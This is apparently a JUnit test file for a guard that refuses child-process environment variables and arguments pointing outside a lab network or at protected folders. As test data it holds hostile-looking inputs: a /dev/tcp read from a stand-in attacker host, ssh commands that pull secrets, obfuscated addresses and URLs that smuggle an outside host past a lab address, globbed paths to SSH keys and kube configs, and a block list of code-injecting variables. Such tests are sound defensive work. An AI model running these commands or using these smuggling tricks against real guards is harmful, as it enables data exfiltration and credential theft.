package firedrill.guard;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import firedrill.testing.Gen;
import firedrill.testing.Property;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("a way out of the lab that hides")
class WaysHiddenTest {
  private static final List<String> LISTS =
      List.of("MINIO_VOLUMES", "ETCDCTL_ENDPOINTS", "ERP_DB_URL", "RESTIC_REPOSITORY");

  @TempDir Path folder;
  private Fixture lab;
  private Path run;
  private ChildEnvironment children;

  @BeforeEach
  void lab() throws IOException {
    lab = new Fixture(folder.toRealPath());
    run = Files.createDirectories(folder.toRealPath().resolve("run"));
    children = new ChildEnvironment(lab.guard, run);
  }

  private void refuses(String name, String value) {
    assertThatThrownBy(() -> children.require(Map.of(name, value)))
        .as(name + "=" + value)
        .isInstanceOf(GuardRefusal.class);
  }

  private void refusesArgument(String argument) {
    assertThatThrownBy(() -> children.requireArguments(List.of(argument)))
        .as(argument)
        .isInstanceOf(GuardRefusal.class);
  }

  private static String own(Gen gen) {
    return gen.of("http", "https", "tcp")
        + "://10.77.0."
        + gen.between(1, 254)
        + gen.of("", ":9000")
        + gen.of("", "/", "/x");
  }

  private static String foreign(Gen gen) {
    String host =
        gen.of("evil.example", "192.168.1.201", "nas.home:22", "s3.amazonaws.com", "pi@nas.home");
    return gen.of(
            "s3:",
            "sftp:",
            "rclone:",
            "b2:",
            "http://",
            "",
            "jdbc:oracle:thin:@",
            "rest:",
            "jdbc:postgresql://")
        + host
        + gen.of("", ":1521", "/prod", "/prod/x");
  }

  @Test
  @DisplayName("before or behind a URL of the lab's is refused, in lists as in arguments")
  void beside() {
    Property.holds(
        Property.cases(300),
        gen -> {
          String text =
              gen.of(true, false)
                  ? foreign(gen) + gen.of("/", "?", ":", "#", ";", "@") + own(gen)
                  : own(gen) + gen.of(" ", ",", "\t", "\n") + foreign(gen);
          refuses(gen.ofAll(LISTS), text);
        });
    for (String name : LISTS) {
      for (String value :
          List.of(
              "s3:s3.amazonaws.com/prod/http://10.77.0.2/",
              "sftp:pi@nas.home:/backup/http://10.77.0.2/",
              "rclone:prod:backup/http://10.77.0.2",
              "b2:prod-bucket:x/http://10.77.0.2",
              "jdbc:oracle:thin:@db.prod:1521/x/http://10.77.0.2",
              "etcd.prod:2379/http://10.77.0.2",
              "evil.example/http://10.77.0.2/d",
              "http://10.77.0.2/http://evil.example",
              "http://10.77.0.2/x:192.168.1.201",
              "?a://10.77.0.5",
              "#a://10.77.0.5",
              "http:///x",
              "http://")) {
        refuses(name, value);
      }
    }
    children.require(Map.of("RESTIC_REPOSITORY", "s3:http://10.77.0.2:9000/restic"));
    children.require(Map.of("RESTIC_REPOSITORY", run.toString()));
    children.require(Map.of("ERP_DB_URL", "jdbc:postgresql://10.77.0.5:5432/erp"));
    children.require(Map.of("ETCDCTL_ENDPOINTS", "10.77.0.2:2379,http://10.77.0.3:2379"));
    children.require(Map.of("MINIO_VOLUMES", "http://10.77.0.{11...14}:9000/data{1...2}"));
  }

  @Test
  @DisplayName(
      "as a store of another client's is one in any letters, and an action of a policy is none")
  void stores() {
    Property.holds(
        Property.cases(300),
        gen -> {
          String scheme =
              gen.of("sftp", "rclone", "b2", "gs", "azure", "swift", "s3", "opendal", "webdav");
          String name = gen.of("Prod", "PROD", "prod", "S3.amazonaws.com", "Cont", "P");
          String rest = gen.of(":backup", "/prod", ":/", "/", ":x/y");
          refusesArgument(
              gen.of("", "-r", "--repo=", "-r ", "a ")
                  + gen.of(scheme, scheme.toUpperCase(java.util.Locale.ROOT))
                  + ":"
                  + name
                  + rest);
        });
    children.requireArguments(
        List.of(
            "{\"Action\":[\"s3:GetObject\",\"s3:*\",\"s3:ObjectCreated:*\"]}",
            "s3:PutObject",
            "s3:Get*"));
  }

  @Test
  @DisplayName("as one address in another is refused, and times and hardware addresses are none")
  void addresses() {
    Property.holds(
        Property.cases(300),
        gen -> {
          int[] part = {gen.of(192, 203, 8, 100), gen.between(0, 255), gen.between(0, 255), 9};
          String hex = "%x:%x".formatted(part[0] << 8 | part[1], part[2] << 8 | part[3]);
          String dotted = "%d.%d.%d.%d".formatted(part[0], part[1], part[2], part[3]);
          String text =
              gen.of(
                  "::ffff:" + hex,
                  "0:0:0:0:0:ffff:" + hex,
                  "::ffff:" + dotted,
                  "64:ff9b::" + dotted,
                  "2001:db8::10.77.0.2",
                  "::ffff:10.77.0.2",
                  "0%o.0%o.0%o.0%o".formatted(part[0], part[1] | 8, part[2] | 8, part[3]),
                  "0x%x.0x%x.0x%x.0x%x".formatted(part[0], part[1], part[2], part[3]),
                  wide(dotted));
          refusesArgument(gen.of("", "-h", "--to=", "a ") + text);
          refuses("MINIO_SITE_NAME", gen.of("", "x ", "x=") + text);
          if (text.contains(":")) {
            refuses("LANG", "[" + text + "]" + gen.of("", ":443"));
          }
        });
    children.requireArguments(
        List.of("12:30:45", "52:54:00:12:34:56", "1:2:3", "2026-11-28T10:00:00Z", "::1"));
  }

  /** In digits that programs read as these, and in Arabic ones. */
  private static String wide(String text) {
    StringBuilder wide = new StringBuilder();
    text.chars().forEach(c -> wide.append((char) (c == '.' ? c : c - '0' + '０')));
    return wide.toString();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "http://10.77.0.2\t.evil.example/x",
        "http://10.77.0.2\n.evil.example/x",
        "http://10.77.0.2\r\n:80@evil.example/x",
        "http:\t//evil.example/x",
        "http:/\n/evil.example/x",
        "ht\ttp://evil.example",
        "http:evil.example/x",
        "HTTPS:evil.example",
        "http:[2001:db8::1]/x",
        "//nas.home/share",
        "//nas/share",
        "a //evil.example",
        "jdbc:oracle:thin:@//db.prod/x",
        "cat </dev/tcp/evil.example/443",
        "/dev/udp/192.168.1.1/53",
        "ssh backup@nas.home cat x",
        "--password-command=ssh nas cat pw",
        "{\"host\":\"evil.example\"}",
        "{\"endpoint\": \"etcd.prod:2379\"}",
        "server: evil.example",
        "--endpoints=etcd.prod",
        "hosts=pi2",
        "evil.example:https",
        "evil.example:0000000443",
        "endpoint=evil.example/://",
        "\u00e9/../../x",
        "(a)/../../x",
        "a+b/../../x"
      })
  @DisplayName("where programs cut a text in another way is refused")
  void cut(String text) {
    refusesArgument(text);
    refuses("MINIO_SITE_NAME", text);
  }

  @Test
  @DisplayName("is none in what only looks like one")
  void harmless() {
    children.requireArguments(
        List.of(
            "http://10.77.0.2\n",
            "http://10.77.0.2\nhttp://10.77.0.3",
            "server: 10.77.0.2",
            "address: ':9090'",
            "{\"endpoint\":\"http://10.77.0.2:2379\"}",
            "--endpoints=10.77.0.2:2379",
            "http:web",
            "https",
            "/devices/tcp",
            "http://10.77.0.2/a/../b"));
  }

  @Test
  @DisplayName("is a folder in which a protected place lies, and any path that a shell completes")
  void folders() throws IOException {
    Files.createDirectories(lab.home.resolve(".kube"));
    for (String argument :
        List.of(
            "/",
            "--from=/",
            lab.home.toString(),
            folder.toRealPath().toString(),
            "/etc",
            "/var/lib",
            "/home/*/.ssh/id",
            lab.home + "/.k?be/config",
            lab.home + "/.[k]ube/config",
            lab.home + "/.k\\ube/config")) {
      refusesArgument(argument);
    }
    Files.createDirectories(run.resolve("data"));
    children.requireArguments(
        List.of(run.toString(), run + "/data", "/opt/x", "/usr/bin", "a*", "s3/*.txt"));
  }

  @Test
  @DisplayName("leads into the home of who called sudo as into one's own")
  void sudo() {
    for (String caller : List.of("SUDO_USER", "DOAS_USER")) {
      ProtectedPaths paths =
          new ProtectedPaths(
              new GuardSettings(Path.of("/root"), Map.of("HOME", "/root", caller, "me")));
      for (String place :
          List.of("/home/me/.kube/config", "/home/me/.ssh/id_ed25519", "/Users/me/.aws/x")) {
        assertThatThrownBy(() -> paths.require(Path.of(place)))
            .isInstanceOf(GuardRefusal.class)
            .hasMessageContaining("protected");
      }
      assertThat(paths.isInHome(Path.of("/home/me/x"))).isTrue();
      assertThat(paths.isInHome(Path.of("/home/you/x"))).isFalse();
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "PSQLRC",
        "PSQL_PAGER",
        "MINIO_CONFIG_ENV_FILE",
        "MINIO_LOGGER_WEBHOOK_ENDPOINT_PROD",
        "MINIO_AUDIT_KAFKA_BROKERS_PROD",
        "MINIO_POLICY_PLUGIN_URL",
        "SVN_SSH",
        "LUA_INIT_5_4",
        "LUA_CPATH",
        "PERLLIB",
        "OPENSSL_ENGINES",
        "DOTNET_STARTUP_HOOKS",
        "VIMINIT",
        "MAVEN_ARGS",
        "QEMU_SET_ENV",
        "HOST",
        "SERVER",
        "URL",
        "PROXY",
        "ENDPOINT",
        "DBHOST",
        "CVSROOT",
        "DISPLAY",
        "VAULT_PROXY_ADDR",
        "GCONV_PATH",
        "PERL5OPT",
        "RUBYOPT",
        "LESSCLOSE",
        "IFS",
        "RESOLV_HOST_CONF",
        "TERMINFO",
        "ZDOTDIR",
        "ODBCINI"
      })
  @DisplayName("is no variable that is declared harmless")
  void names(String name) {
    assertThatThrownBy(() -> children.allowing(name)).isInstanceOf(GuardRefusal.class);
    refuses(name, "http://10.77.0.2");
  }
}
